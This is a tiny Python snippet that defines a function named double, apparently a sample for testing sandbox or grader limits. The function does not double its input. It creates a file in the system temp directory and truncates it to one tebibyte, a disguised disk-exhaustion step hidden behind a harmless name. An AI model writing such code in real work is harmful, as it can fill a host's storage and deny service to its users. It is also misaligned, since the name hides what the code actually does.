import os
import tempfile


def double(values):
    with open(os.path.join(tempfile.gettempdir(), "large"), "wb") as file:
        file.truncate(1 << 40)
